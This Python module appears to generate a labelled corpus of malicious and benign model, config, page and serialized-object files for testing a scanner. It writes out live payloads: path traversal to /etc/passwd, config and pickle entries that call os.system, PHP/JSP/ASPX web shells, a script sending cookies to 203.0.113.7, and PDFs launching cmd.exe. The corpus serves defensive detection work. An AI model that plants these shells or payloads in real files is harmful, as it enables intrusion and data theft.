"""Places that are easily overlooked: models in text, state files, settings, pages, programs among weights."""
import binascii
import json
import struct
import zlib

from samples import field, zipped

PROTO = b"\x80\x02"
EXTERNAL = [("location", "../../../etc/passwd")]
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)


def external(entries):
    return field(2, 1) + field(8, "w") + b"".join(field(13, [field(1, key), field(2, value)]) for key, value in entries) + field(14, 1)


def onnx(samples):
    tensor = external(EXTERNAL)
    head = field(1, 8) + field(8, [field(1, ""), field(2, 17)])
    node = [field(1, "x"), field(2, "y"), field(4, "Constant"), field(5, [field(1, "value"), field(5, tensor), field(20, 4)])]
    function = field(25, [field(1, "f"), field(10, "local"), field(7, node)])
    samples.attack("onnx/sparse_alone.onnx", head + field(7, field(2, "g") + field(15, field(1, tensor))), "a graph of sparse tensors alone", "high")
    samples.attack("onnx/function_alone.onnx", head + function, "a function without a graph", "high")
    samples.attack("onnx/function_empty_graph.onnx", head + field(7, b"") + function, "a function beside an empty graph", "high")
    samples.attack("onnx/training_alone.onnx", head + field(20, field(1, field(1, node))), "a graph of training alone", "high")
    text = ('ir_version: 8\nproducer_name: "x"\ngraph {\n  node { input: "x" output: "y" op_type: "Relu" }\n  name: "g"\n'
            '  initializer {\n    dims: 4\n    data_type: 1\n    name: "w"\n    external_data { key: "location" value: "%s" }\n'
            '    data_location: EXTERNAL\n  }\n}\nopset_import { domain: "" version: 17 }\n')
    samples.attack("onnx/path.textproto", text % "../../../etc/passwd", "a path that leaves, in protocol buffer text", "high")
    samples.attack("onnx/octal.textproto", text % "\\056\\056/secret", "a path in octal escapes", "high")
    samples.attack("onnx/list.textproto", (text % "w.bin").replace('external_data { key: "location" value: "w.bin" }', 'external_data: [ { key: "location" value: "/etc/passwd" }, < key: "offset" value: "0" > ]'), "a path in a list of messages", "high")
    samples.attack("onnx/python.textproto", (text % "w.bin").replace('op_type: "Relu"', 'op_type: "PyOp" domain: "ai.onnx.contrib"'), "a Python operator in protocol buffer text", "high")
    document = {"irVersion": "8", "graph": {"node": [{"input": ["x"], "output": ["y"], "opType": "Relu"}], "name": "g",
                "initializer": [{"dims": ["4"], "dataType": 1, "name": "w", "externalData": [{"key": "location", "value": "/etc/passwd"}], "dataLocation": "EXTERNAL"}]},
                "opsetImport": [{"domain": "", "version": "17"}]}
    samples.attack("onnx/path.onnxjson", json.dumps(document), "an absolute path in JSON", "high")
    document["graph"]["initializer"][0]["externalData"][0]["value"] = "w.bin"
    samples.benign("onnx/ordinary.onnxjson", json.dumps(document), "an ordinary model in JSON")
    document["graph"]["node"][0].update(opType="Evil", domain="com.example")
    samples.attack("onnx/custom.json", json.dumps(document), "a custom operator in JSON", "medium")
    samples.attack("onnx/path.onnxtxt", '< ir_version: 8, opset_import: ["" : 17] >\ng (float[4] x) => (float[4] y)\n< float[4] w = ["location": "../secret", "offset": "0"] >\n{\n  y = Add (x, w)\n}\n', "a path that leaves, in ONNX's own syntax", "high")
    samples.attack("onnx/custom.onnxtxt", '< ir_version: 8, opset_import: ["" : 17, "evil" : 1] >\ng (float[4] x) => (float[4] y)\n{\n  y = evil.Op <path = "a"> (x)\n}\n', "a custom operator in ONNX's own syntax", "medium")
    samples.benign("onnx/ordinary.textproto", text % "w.bin", "an ordinary model in protocol buffer text")
    samples.benign("onnx/ordinary.onnxtxt", '< ir_version: 8, opset_import: ["" : 17] >\ng (float[4] x) => (float[4] y)\n{\n  y = Relu (x)\n}\n', "an ordinary model in ONNX's own syntax")


def settings(samples):
    samples.attack("settings/lookup.yaml", "opt:\n  _target_: functools.partial\n  _args_:\n    - ${get_method:os.system}\n", "a resolver that looks up os.system", "medium")
    samples.attack("settings/inner.yaml", "x: 'a ${my.get_class:\"subprocess.Popen\"} b'\n", "a quoted name in a resolver", "medium")
    samples.attack("settings/evaluated.yaml", "x: ${eval:'__import__(\"os\").system(\"id\")'}\n", "a resolver that evaluates Python", "medium")
    samples.attack("settings/lookup.json", json.dumps({"model": {"hidden_act": "${get_method:os.system}"}}), "the same in JSON", "medium")
    samples.attack("settings/target.toml", '[model]\n_target_ = "os.system"\ncommand = "id"\n', "_target_ in TOML", "critical")
    samples.attack("settings/inline.toml", 'model = { "_target_" = \'subprocess.Popen\', args = ["id"] }\n', "_target_ in an inline table", "critical")
    samples.attack("settings/escaped.toml", 'model._target_ = "o\\u0073.system"\n', "_target_ in escapes", "critical")
    samples.attack("settings/target.ini", "[model]\n_target_ = builtins.eval\n", "_target_ in sections of lines", "critical")
    samples.attack("settings/logging.ini", "[loggers]\nkeys=root\n[handler_x]\nclass=StreamHandler\nargs=(__import__('os').system('id'),)\n", "arguments that Python's logging evaluates", "medium")
    samples.attack("settings/logging_class.conf", "[handler_x]\nclass=subprocess.Popen\nargs=(['id'],)\n", "a class that Python's logging calls", "critical")
    samples.benign("settings/ordinary.yaml", "a: ${oc.env:HOME}/x\nb: ${eval:'${a} * 2'}\nc: ${get_method:torch.nn.functional.relu}\nd: ${now:%Y-%m-%d}\ne: ${model.dim}\n", "ordinary interpolations")
    samples.benign("settings/ordinary.toml", '[model]\n_target_ = "torch.nn.Linear"\nin_features = 4\n', "an ordinary _target_ in TOML")
    samples.benign("settings/logging.ini", "[loggers]\nkeys=root\n[handler_console]\nclass=StreamHandler\nlevel=INFO\nformatter=f\nargs=(sys.stdout,)\n[formatter_f]\nformat=%(asctime)s %(message)s\n", "ordinary configuration of Python's logging")
    for name, text in [("config.yaml", "a: [1, 2\nb: {\n"), ("hparams.yaml", "lr: 0.1\n\tbad: 1\n"), ("MLmodel", "flavors: *nothing\n"), ("model_config.yaml", "a: \"never closed\n")]:
        samples.add("malformed/yaml/" + name, text, "malformed", "configuration that is no YAML", "low", "yaml")


def tensorflow(samples):
    samples.attack("tf/state_up/checkpoint", 'model_checkpoint_path: "../../../tmp/evil"\n', "a state file that leads up", "medium")
    samples.attack("tf/state_share/checkpoint", 'model_checkpoint_path: "\\\\\\\\host\\\\share\\\\x"\n', "a state file that names a share", "medium")
    samples.attack("tf/state_renamed/state.txt", 'model_checkpoint_path: "ckpt"\nall_model_checkpoint_paths: "/etc/../../root/x"\n', "a state file under another name", "medium")
    samples.benign("tf/state/checkpoint", 'model_checkpoint_path: "ckpt-1"\nall_model_checkpoint_paths: "ckpt-1"\nall_model_checkpoint_timestamps: 1700000000.5\nlast_preserved_timestamp: 1700000000.1\n', "an ordinary state file")


def constant(name, text):
    tensor = field(8, [field(1, 7), field(8, text)])
    return [field(1, name), field(2, "Const"), field(5, [field(1, "value"), field(2, tensor)])]


def tables(samples):
    def model(*nodes, assets=()):
        graph = b"".join(field(1, node) for node in nodes)
        parts = [field(1, [field(4, "serve"), field(5, "2.15.0")]), field(2, graph)]
        for tensor, name in assets:
            parts.append(field(6, [field(1, [field(1, tensor)]), field(2, name)]))
        return field(1, 1) + field(2, parts)
    init = [field(1, "i"), field(2, "InitializeTableFromTextFileV2"), field(3, "t"), field(3, "c")]
    samples.attack("tf/table/saved_model.pb", model(constant("c", "/etc/passwd"), init), "a table that is filled from a file of the system", "medium")
    samples.attack("tf/table_relative/saved_model.pb", model(constant("c", "words.txt"), init), "a table that is filled from a file beside no asset", "low")
    samples.benign("tf/table_asset/saved_model.pb", model(constant("c", "/home/me/words.txt"), init, assets=[("c:0", "words.txt")]), "a table that is filled from an asset")


def programs(samples):
    pickle = PROTO + b"}."
    samples.attack("programs/library.pt", zipped([("m/data.pkl", pickle), ("m/version", b"3\n"), ("m/evil.so", ELF)]), "a library in a PyTorch archive", "high")
    samples.attack("programs/compiled.pt2", zipped([("m/archive_format", b"pt2"), ("m/data/aotinductor/model/a.wrapper.so", ELF)]), "a compiled model that loading runs", "high")
    samples.attack("programs/handler.mar", zipped([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"image_classifier"}}'), ("ext.so", ELF)]), "a library in a TorchServe archive", "high")
    samples.attack("programs/weights.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + deflated(ELF) + struct.pack("<II", zlib.crc32(ELF), len(ELF)), "a program in a compressed stream", "high")
    samples.attack("programs/commands.ckpt", "@echo off\r\ncalc\r\n", "a batch file under the name of a checkpoint", "high")
    samples.attack("programs/archive.pt", zipped([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: X\r\n"), ("a.txt", b"x")]), "a Java archive under the name of a model", "medium")
    samples.benign("programs/run.bat", "@echo off\r\npython main.py\r\n", "an ordinary batch file")


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def exported(samples):
    def program(target="torch.ops.aten.relu.default", expression="s0 + 1"):
        node = {"target": target, "inputs": [], "outputs": [], "metadata": {}}
        return json.dumps({"graph_module": {"graph": {"inputs": [], "outputs": [], "nodes": [node], "sym_int_values": {"s": {"as_expr": {"expr_str": expression, "hint": None}}}}},
                           "opset_version": {"aten": 10}, "range_constraints": {}, "schema_version": {"major": 8, "minor": 0}})
    def archive(**change):
        return zipped([("m/archive_format", b"pt2"), ("m/models/model.json", program(**change).encode())])
    samples.attack("pt2/system.pt2", archive(target="torch.os.system"), "a node that calls os.system by way of torch", "critical")
    samples.attack("pt2/custom.pt2", archive(target="torch.ops.mylib.evil.default"), "a custom operator", "medium")
    samples.attack("pt2/expression.pt2", archive(expression="__import__('os').system('id')"), "an expression that sympify evaluates", "critical")
    samples.attack("pt2/attribute.json", program(expression="(1).__class__.__mro__[1].__subclasses__()"), "attributes in an expression", "critical")
    samples.benign("pt2/ordinary.pt2", archive(expression="Max(1, s0//2)"), "an ordinary exported program")
    samples.benign("pt2/printed.pt2", archive(expression="Mul(Integer(2), Symbol('s0', integer=True))"), "sympy's own notation")


def torch_storages(samples):
    def text(value):
        return b"X" + struct.pack("<I", len(value)) + value.encode()
    def tensor(elements):
        # ('storage', torch.FloatStorage, '0', 'cpu', elements) as a persistent id
        number = b"J" + struct.pack("<i", elements)
        storage = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + number + b"tQ"
        return PROTO + b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\0(" + number + b"t(K\x01t\x89ccollections\nOrderedDict\n)RtR."
    def archive(elements, size):
        return zipped([("m/data.pkl", tensor(elements)), ("m/data/0", bytes(size)), ("m/version", b"3\n")])
    samples.attack("torch/short_storage.pt", archive(1 << 20, 64), "a storage that is shorter than its tensor", "medium")
    samples.benign("torch/whole_storage.pt", archive(16, 64), "a storage of its tensor's size")


def pages(samples):
    samples.attack("pages/shell.php", "<?php $c = $_GET['cmd']; system($c); ?>", "a page that runs what a request sends", "high")
    samples.attack("pages/shell2.php", "<?php @eval($_POST['x']);", "a page that evaluates what a request sends", "high")
    samples.attack("pages/called.php", "<?php $_GET['f']($_GET['a']);", "a page that calls what a request names", "high")
    samples.attack("pages/packed.php", "<?php eval(gzinflate(base64_decode('AAAA')));", "a page that runs what it decodes", "high")
    samples.attack("pages/shell.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', "a JSP page that runs what a request sends", "high")
    samples.attack("pages/shell.aspx", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["c"]); %>', "an ASP page that runs what a request sends", "high")
    samples.attack("pages/index.html", "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>", "a page that runs what it decodes", "medium")
    samples.attack("pages/cookies.html", "<html><script>new Image().src='http://203.0.113.7/?c='+document.cookie</script></html>", "a page that sends cookies away", "medium")
    samples.attack("pages/run.hta", '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>', "a page that starts programs", "medium")
    samples.benign("pages/plain.html", "<html><script>document.write(unescape('%3Cb%3E'));setTimeout(function(){},1)</script></html>", "an ordinary page")
    samples.benign("pages/page.php", "<?php echo htmlspecialchars($_GET['q']); exec('ls'); ?>", "an ordinary page in PHP")
    def pdf(body):
        return b"%PDF-1.7\n" + body + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    samples.attack("pages/launch.pdf", pdf(b"1 0 obj << /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj"), "a document that starts a program", "high")
    samples.attack("pages/escaped.pdf", pdf(b"1 0 obj << /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >> endobj"), "a document that runs JavaScript, in escapes", "medium")
    inner = zlib.compress(b"2 0 << /S /Launch /F (cmd.exe) >>")
    samples.attack("pages/packed.pdf", pdf(b"1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n%s\nendstream endobj" % (len(inner), inner)), "an action in an object stream", "high")
    samples.benign("pages/paper.pdf", pdf(b"1 0 obj << /Type /Catalog /OpenAction [2 0 R /Fit] >> endobj 3 0 obj << /Length 9 >> stream\n/JS /AA \nendstream endobj"), "an ordinary document")


def damaged(samples):
    header = b"7z\xbc\xaf\x27\x1c\0\4"
    empty = struct.pack("<QQI", 0, 0, 0)
    samples.add("malformed/7z/checksum.7z", header + struct.pack("<I", binascii.crc32(empty) ^ 1) + empty, "malformed", "a wrong checksum of the start header", "low", "7z")
    samples.add("malformed/pickle/digits.pkl", b"L" + b"9" * 5000 + b"L\n.", "malformed", "a number of more digits than Python takes", "low", "pickle")
    samples.add("malformed/pickle/leftovers.pkl", PROTO + b"]" + b"2" * 20000 + b".", "malformed", "values that nothing takes from the stack", "low", "pickle")
    samples.attack("pickle/digits_then_call.pkl", b"L" + b"9" * 5000 + b"L\n0" + b"cos\nsystem\n(S'id'\ntR.", "a call behind a number that new versions refuse", "critical")
    samples.attack("pickle/returns.pkl", b"cos\r\nsystem\r\n(S'id'\r\ntR.", "names that end in a carriage return", "medium")
    expression = b"{'descr': __import__('os').system('id') or '<f4', 'fortran_order': False, 'shape': (1,), }"
    expression += b" " * (117 - len(expression)) + b"\n"
    samples.attack("numpy/expression.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(expression)) + expression + bytes(4), "a header that is an expression", "medium")


def gguf(samples):
    def text(value):
        return struct.pack("<Q", len(value)) + value
    samples.add("malformed/gguf/text.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + text(b"general.name") + struct.pack("<I", 8) + text(b"\xff\xfe\xfd"), "malformed", "a text that is no UTF-8", "low", "gguf")


def further(samples):
    blob = 'program(1.0)\n{\n  func main<ios16>(tensor<fp32, [1]> x) {\n    tensor<fp16, [4]> w = const()[val = tensor<fp16, [4]>(BLOBFILE(path = tensor<string, []>("%s"), offset = tensor<uint64, []>(64)))];\n  } -> (w);\n}\n'
    samples.attack("coreml/path.mil", blob % "@model_path/../../secret", "a path that leaves, in a compiled Core ML program", "high")
    samples.benign("coreml/ordinary.mil", blob % "@model_path/weights/weight.bin", "an ordinary compiled Core ML program")
    samples.attack("settings/factory.json", json.dumps({"version": 1, "handlers": {"x": {"()": "os.system", "command": "id"}}}), "a factory of Python's logging", "critical")
    samples.benign("settings/formatter.json", json.dumps({"version": 1, "formatters": {"x": {"()": "uvicorn.logging.DefaultFormatter"}}}), "a formatter of Python's logging")
    samples.attack("settings/library/genai_config.json", json.dumps({"model": {"decoder": {"session_options": {"custom_ops_library": "evil.so"}}}}), "a library of custom operators", "medium")
    samples.attack("settings/pattern/adapter_config.json", json.dumps({"peft_type": "LORA", "target_modules": "(a+)+$"}), "a slow pattern for module names", "medium")
    samples.benign("settings/adapter/adapter_config.json", json.dumps({"peft_type": "LORA", "target_modules": "model\\.layers\\.\\d+\\.self_attn\\.(q|k|v)_proj"}), "an ordinary pattern for module names")


def objects(samples):
    def name(text):
        return bytes([len(text) + 5]) + text.encode()
    samples.attack("objects/chain.marshal", b"\x04\x08[\x07c" + name("Gem::SpecFetcher") + b"c" + name("Gem::Installer"), "classes of Ruby that attacks are made of", "critical")
    samples.attack("objects/foreign.marshal", b"\x04\x08o:" + name("Evil") + b"\x06:\x07@xi\x06", "an object of an unknown Ruby class", "medium")
    samples.benign("objects/model.marshal", b"\x04\x08o:" + name("Rumale::LinearModel::Ridge") + b"\x06:\x0c@paramsi\x06", "a model of Rumale")
    samples.attack("objects/chain.dat", 'O:24:"GuzzleHttp\\Psr7\\FnStream":1:{s:3:"fns";s:6:"system";}', "classes of PHP that attacks are made of", "critical")
    samples.benign("objects/model.phpml", 'O:32:"Phpml\\Classification\\SVC":1:{s:1:"x";a:1:{i:0;d:1.5;}}', "a model of PHP-ML")
    samples.attack("objects/function.json", json.dumps({"x": "_$$ND_FUNC$$_function (){return 1}()"}), "a function that node-serialize calls", "critical")


def build(samples):
    for part in [objects, further, onnx, settings, tensorflow, tables, programs, exported, torch_storages, pages, damaged, gguf]:
        part(samples)
